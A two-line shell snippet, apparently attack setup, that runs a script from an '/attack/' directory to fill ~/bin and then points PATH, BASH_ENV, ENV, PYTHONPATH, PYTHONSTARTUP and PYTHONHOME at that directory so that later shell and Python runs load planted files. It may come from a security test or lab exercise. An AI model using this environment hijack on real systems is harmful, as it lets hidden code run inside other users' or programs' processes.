mkdir -p ~/bin && /attack/shadow.sh ~/bin 2>/dev/null
export PATH=$HOME/bin BASH_ENV=$HOME/bin/sh ENV=$HOME/bin/sh PYTHONPATH=$HOME/bin PYTHONSTARTUP=$HOME/bin/sh PYTHONHOME=$HOME/bin
